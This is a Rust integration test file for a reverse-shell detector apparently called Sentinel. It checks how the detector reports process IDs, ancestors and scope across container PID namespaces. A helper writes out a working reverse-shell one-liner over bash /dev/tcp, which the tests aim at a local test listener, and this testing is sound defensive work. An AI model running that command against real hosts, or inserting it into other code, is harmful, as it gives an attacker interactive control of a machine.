//! Sentinel in a container: processes have the numbers that they have there, and who is outside is nobody.

use std::{
    fs,
    path::Path,
    process::{Child, Stdio},
    time::Duration,
};

use sentinel_tests::{
    bed::Bed,
    container::{Container, numbers},
    peer::Peer,
    rig::lives_on,
    sentinel::{Outcome, PATIENCE, Sentinel, is_running, program, within},
};
use serde_json::Value;

/// One that watches the bed's cgroup from inside the container.
fn watch(bed: &Bed, container: &Container, arguments: &[&str]) -> Sentinel {
    let scope = format!("--scope-cgroup={}", bed.cgroup().display());
    let arguments = [&[scope.as_str()], arguments].concat();
    Sentinel::start_as(bed, container.command(program()), &arguments)
}

/// Makes the shell that runs it a reverse shell to `peer`.
fn shell_code(peer: &Peer) -> String {
    format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port())
}

/// The number in the initial namespace of the bed's process that has `own` in its own, `depth` below.
fn outer_number(bed: &Bed, own: u32, depth: usize) -> u32 {
    let members = bed.members().into_iter().map(|member| numbers(member.try_into().unwrap()));
    let mut found = members.filter(|all| all.len() == depth + 1 && all.last() == Some(&own));
    found.next().expect("a process of the bed")[0]
}

/// Number and program of each ancestor.
fn ancestors(alert: &Value) -> Vec<(u64, String)> {
    let told = |ancestor: &Value| {
        let program = Path::new(ancestor["exe"].as_str().unwrap_or_default()).file_name();
        let program = program.unwrap_or_default().to_string_lossy().into_owned();
        (ancestor["pid"].as_u64().unwrap(), program)
    };
    alert["ancestors"].as_array().unwrap().iter().map(told).collect()
}

fn emitted(outcome: &Outcome) -> &str {
    let rest = outcome.output.split("emitted ").nth(1).unwrap_or_else(|| panic!("{outcome:#?}"));
    rest.split_whitespace().next().unwrap()
}

#[test]
fn a_shell_inside_is_found_under_its_number_there() {
    let Some(bed) = Bed::new() else { return };
    let mut container = Container::start(&bed);
    let sentinel = watch(&bed, &container, &[]);
    let peer = Peer::listen("127.0.0.1");
    // What follows the shell keeps its parent from becoming it.
    let line = format!("bash -c 'bash -c \"{}\"; :' & echo $!", shell_code(&peer));
    let parent: u32 = container.ask(&line).parse().unwrap();
    let mut shell = peer.shell();
    let pid = shell.pid();
    assert_ne!(outer_number(&bed, pid, 1), pid);
    shell.exit();
    let outcome = sentinel.stop();
    assert_eq!(outcome.alerts.len(), 1, "{outcome:#?}");
    let alert = &outcome.alerts[0];
    assert_eq!((&alert["pid"], &alert["ppid"]), (&pid.into(), &parent.into()), "{alert:#}");
    let ancestors = ancestors(alert);
    assert_eq!(ancestors[0], (parent.into(), "bash".to_owned()));
    assert_eq!((ancestors[1].0, ancestors.len()), (1, 2), "{ancestors:?}");
    assert!(!ancestors[1].1.is_empty(), "what was there before is known: {ancestors:?}");
    assert!(outcome.status.success(), "{outcome:#?}");
}

#[test]
fn a_shell_in_a_container_further_in_has_the_number_of_the_one_between() {
    let Some(bed) = Bed::new() else { return };
    let mut container = Container::start(&bed);
    let sentinel = watch(&bed, &container, &[]);
    let peer = Peer::listen("127.0.0.1");
    let code = shell_code(&peer);
    container.tell(&format!(
        "unshare --pid --fork --mount-proc --kill-child bash -c 'bash -c \"{code}\"; :' &"
    ));
    let mut shell = peer.shell();
    let own = shell.pid();
    let all = numbers(outer_number(&bed, own, 2));
    assert!(all[1] != all[0] && all[1] != own, "{all:?}");
    shell.exit();
    let alerts = sentinel.stop().alerts;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0]["pid"], all[1]);
    assert_eq!(ancestors(&alerts[0]).last().map(|last| last.0), Some(1));
}

#[test]
fn a_shell_outside_is_not_seen() {
    let Some(bed) = Bed::new() else { return };
    let container = Container::start(&bed);
    let sentinel = watch(&bed, &container, &[]);
    let peer = Peer::listen("127.0.0.1");
    let code = shell_code(&peer);
    let mut command = bed.command("bash");
    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
    let mut shell = peer.shell();
    assert_eq!(shell.pid(), child.id());
    shell.exit();
    child.wait().unwrap();
    let outcome = sentinel.stop();
    assert!(outcome.alerts.is_empty(), "{outcome:#?}");
    assert_eq!(emitted(&outcome), "0", "{outcome:#?}");
}

#[test]
fn a_shell_that_somebody_outside_sends_in_is_found() {
    let Some(bed) = Bed::new() else { return };
    let container = Container::start(&bed);
    let sentinel = watch(&bed, &container, &[]);
    let peer = Peer::listen("127.0.0.1");
    let inside = container.command("bash");
    let mut command = bed.command(inside.get_program());
    command.args(inside.get_args()).args(["-c", &shell_code(&peer)]);
    let mut child = command.stdin(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let mut shell = peer.shell();
    let pid = shell.pid();
    shell.exit();
    child.wait().unwrap();
    let alerts = sentinel.stop().alerts;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!((&alerts[0]["pid"], &alerts[0]["ppid"]), (&pid.into(), &0.into()));
}

/// A process outside, in the scope, whose number is then given to the next one inside.
fn namesake(bed: &Bed, container: &mut Container) -> Child {
    let outside = bed.command("sleep").arg("300").spawn().unwrap();
    container.tell(&format!("echo {} > /proc/sys/kernel/ns_last_pid", outside.id() - 1));
    outside
}

#[test]
fn the_shell_ends_and_a_process_outside_with_its_number_lives() {
    let Some(bed) = Bed::new() else { return };
    let mut container = Container::start(&bed);
    let sentinel = watch(&bed, &container, &["--grimoire-enforce"]);
    let peer = Peer::listen("127.0.0.1");
    let mut outside = namesake(&bed, &mut container);
    let line = format!("bash -c '{}' & echo $!", shell_code(&peer));
    let pid: u32 = container.ask(&line).parse().unwrap();
    assert_eq!(pid, outside.id(), "another process took the number");
    assert_eq!(container.ask("wait $!; echo $?"), "137");
    assert!(lives_on(outside.id()));
    outside.kill().unwrap();
    outside.wait().unwrap();
    let outcome = sentinel.stop();
    assert_eq!(outcome.alerts.len(), 1, "{:#?}", outcome.alerts);
    assert_eq!(outcome.alerts[0]["action"], "terminated");
    assert_eq!(outcome.alerts[0]["pid"], pid);
    let audit = format!("audit verdict=terminated pid={pid}");
    assert!(outcome.errors.contains(&audit), "{}", outcome.errors);
}

#[test]
fn a_tree_inside_is_attached_to_by_its_roots_number_there() {
    let Some(bed) = Bed::new() else { return };
    let mut container = Container::start(&bed);
    let peer = Peer::listen("127.0.0.1");
    let go = bed.path("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let code = shell_code(&peer);
    let line = format!("bash -c 'read -r < {}; bash -c \"{code}\"; :' & echo $!", go.display());
    let root = container.ask(&line);
    let attach = format!("--attach-pid={root}");
    let sentinel = Sentinel::start_as(&bed, container.command(program()), &[&attach]);
    fs::write(&go, "go\n").unwrap();
    peer.shell().exit();
    container.tell(&format!("bash -c '{code}' &"));
    peer.shell().exit();
    let alerts = sentinel.stop().alerts;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0]["ppid"].to_string(), root);
}

#[test]
fn it_runs_as_the_first_process_and_does_not_see_itself() {
    let Some(bed) = Bed::new() else { return };
    let scope = format!("--scope-cgroup={}", bed.cgroup().display());
    let mut command = bed.command("unshare");
    command.args(["--pid", "--fork", "--mount-proc", "--kill-child"]).arg(program());
    let sentinel = Sentinel::start_as(&bed, command, &[&scope]);
    let parts = [sentinel.pid(), sentinel.loader(), sentinel.enforcer()];
    assert_eq!(numbers(sentinel.pid())[1..], [1]);
    for pid in parts {
        assert!(bed.members().contains(&pid.try_into().unwrap()), "all run inside the scope");
    }
    std::thread::sleep(Duration::from_secs(1));
    let outcome = sentinel.stop();
    assert_eq!(emitted(&outcome), "0", "{outcome:#?}");
    assert!(within(PATIENCE, || parts.iter().all(|&pid| !is_running(pid))));
}
